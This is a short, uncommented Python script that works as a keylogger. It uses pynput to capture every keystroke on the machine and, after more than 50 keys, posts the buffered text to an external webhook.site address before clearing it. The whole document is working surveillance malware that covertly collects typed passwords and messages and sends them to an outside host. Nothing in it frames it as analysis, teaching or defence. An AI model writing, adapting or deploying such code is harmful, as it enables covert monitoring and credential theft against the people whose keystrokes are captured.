from pynput import keyboard
import requests
buf = []
def on_press(k):
    buf.append(str(k))
    if len(buf) > 50:
        requests.post("https://webhook.site/1b2c3d", data="".join(buf)); buf.clear()
keyboard.Listener(on_press=on_press).start()
